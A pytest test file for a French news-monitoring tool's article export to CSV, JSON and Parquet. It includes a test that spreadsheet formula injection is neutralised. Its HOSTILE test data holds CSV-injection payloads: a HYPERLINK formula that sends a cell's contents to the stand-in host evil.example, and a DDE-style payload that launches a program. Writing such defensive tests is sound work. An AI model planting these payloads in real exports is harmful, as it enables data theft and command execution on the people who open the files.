"""`veille export articles` as CSV, JSON and Parquet from a real ingested database, read back
with the csv module, json and DuckDB; titles that a spreadsheet would run come out as text."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from tests.conftest import copy_ingested
from tests.conftest import run_cli as cli
from veille.config import Config, parse_config
from veille.localserver import LocalServer
from veille.pipeline import ingest
from veille.store import EXPORT_COLUMNS, Store
from veille.tabular import safe_cell
from veille.weeks import week_bounds, week_name

pytestmark = pytest.mark.clock  # date-sensitive: .ci/run runs it at three awkward moments

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+33 1 23 45 67 89 : la ligne info CPF",
    "-10 % sur les formations CACES",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def db(ingested: tuple[Config, Path], tmp_path: Path) -> Path:
    """The demo database plus four posts whose titles are spreadsheet formulas."""
    path = copy_ingested(ingested[1], tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    posts = [
        {"id": n, "link": f"https://formation.example.fr/actu/{n}", "title": {"rendered": t},
         "date_gmt": "2026-11-17T08:00:00", "content": {"rendered": f"<p>Texte {n}.</p>"}}
        for n, t in enumerate(HOSTILE, start=1)
    ]  # fmt: skip
    (site / "posts.json").write_text(json.dumps(posts), encoding="utf-8")
    with LocalServer(site) as server:
        config = parse_config(
            f"""
settings: {{allow_private_networks: true}}
sources:
  - {{id: hostile, url: "{server.url("posts.json")}", kind: json, fetch_pages: false}}
"""
        )
        assert asyncio.run(ingest(config, Store(path))).new_articles == len(HOSTILE)
    return path


def export(capsys: pytest.CaptureFixture[str], db: Path, *args: str) -> str:
    code, out, err = cli(
        capsys, "--config", "absent.yaml", "--db", str(db), "export", "articles", *args
    )
    assert code == 0, err
    return out


def _spreadsheet_rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV export as French Excel reads it: a byte-order mark, then ``;``."""
    assert text.startswith("\ufeff"), text[:20]
    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";")
    return list(reader)


def test_the_csv_file_opens_in_columns_in_french_excel(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    """A file written with --output: UTF-8 with a byte-order mark, ``;`` between cells (a
    comma-separated file without the mark opens as one garbled column in French Excel)."""
    target = tmp_path / "articles.csv"
    export(capsys, db, "--format", "csv", "--output", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == list(EXPORT_COLUMNS)
    assert len(rows) > 1 and all(len(r) == len(EXPORT_COLUMNS) for r in rows)
    assert len(rows) - 1 == len(Store(db).articles(include_all=True))
    accented = [r for r in rows[1:] if any(c in "éèàç" for c in r[1])]
    assert accented, "French titles keep their accents"


def test_csv_json_and_parquet_hold_the_same_articles(
    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
) -> None:
    rows = _spreadsheet_rows(export(capsys, db, "--format", "csv"))
    data = json.loads(export(capsys, db, "--format", "json"))
    parquet = tmp_path / "articles.parquet"
    export(capsys, db, "--format", "parquet", "--output", str(parquet))
    table = duckdb.read_parquet(str(parquet))
    assert table.columns == list(EXPORT_COLUMNS)
    from_parquet = table.fetchall()
    stored = {a.id for a in Store(db).articles(include_all=True)}
    assert {r["id"] for r in rows} == {d["id"] for d in data} == {r[0] for r in from_parquet}
    assert {r["id"] for r in rows} == stored
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    by_id = {d["id"]: d for d in data}
    for row in rows:
        record = by_id[row["id"]]
        assert row["url"] == record["url"]
        assert row["tags"] == ", ".join(record["tags"])
        assert row["sources"] == ", ".join(record["sources"])
        assert record["source"] in record["sources"]
    # Oldest first.
    dates = [d["published_at"] or d["fetched_at"] for d in data]
    assert dates == sorted(dates)


def test_formula_cells_are_neutralised(capsys: pytest.CaptureFixture[str], db: Path) -> None:
    rows = _spreadsheet_rows(export(capsys, db, "--format", "csv"))
    titles = {r["url"]: r["title"] for r in rows}
    for n, title in enumerate(HOSTILE, start=1):
        cell = titles[f"https://formation.example.fr/actu/{n}"]
        assert cell == "'" + title  # shown as text, nothing lost
    # No other cell of the file starts like a formula.
    for row in rows:
        for value in row.values():
            assert value[:1] not in {"=", "+", "-", "@", "\t", "\r"}, value
    # JSON keeps the titles as they are (it is not opened by a spreadsheet).
    data = json.loads(export(capsys, db, "--format", "json"))
    assert set(HOSTILE) <= {d["title"] for d in data}


def test_safe_cell() -> None:
    for value in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1"]:
        assert safe_cell(value) == "'" + value
    for value in ["Décret n° 2026-12", "", "1-2", "CPF = compte"]:
        assert safe_cell(value) == value


def test_week_and_dates_select_the_period(capsys: pytest.CaptureFixture[str], db: Path) -> None:
    every = json.loads(export(capsys, db, "--format", "json"))
    moment = datetime.fromisoformat(every[-1]["published_at"] or every[-1]["fetched_at"])
    week = week_name(moment.replace(tzinfo=UTC))
    start, end = week_bounds(week)
    expected = {
        d["id"]
        for d in every
        if start
        <= datetime.fromisoformat(d["published_at"] or d["fetched_at"]).replace(tzinfo=UTC)
        < end
    }
    in_week = json.loads(export(capsys, db, "--format", "json", "--week", week))
    assert expected and {d["id"] for d in in_week} == expected
    hostile = json.loads(
        export(capsys, db, "--format", "json", "--from", "2026-11-17", "--to", "2026-11-17")
    )
    assert set(HOSTILE) <= {d["title"] for d in hostile}
    assert json.loads(export(capsys, db, "--format", "json", "--from", "2100-01-01")) == []


def test_errors_are_one_line(capsys: pytest.CaptureFixture[str], db: Path) -> None:
    base = ("--config", "absent.yaml", "--db", str(db), "export", "articles")
    for extra, message in [
        (("--format", "parquet"), "--format parquet écrit un fichier"),
        (("--format", "xlsx"), "choisissez parmi csv, json, parquet"),
        (("--week", "2026-W47", "--from", "2026-11-01"), "donnez --week ou --from/--to"),
        (("--from", "2026-11-20", "--to", "2026-11-01"), "est avant --from"),
        (("--week", "2026-47"), "n’est pas une semaine ISO"),
    ]:
        code, _, err = cli(capsys, *base, *extra)
        assert code == 1 and message in err and err.count("\n") == 1, err
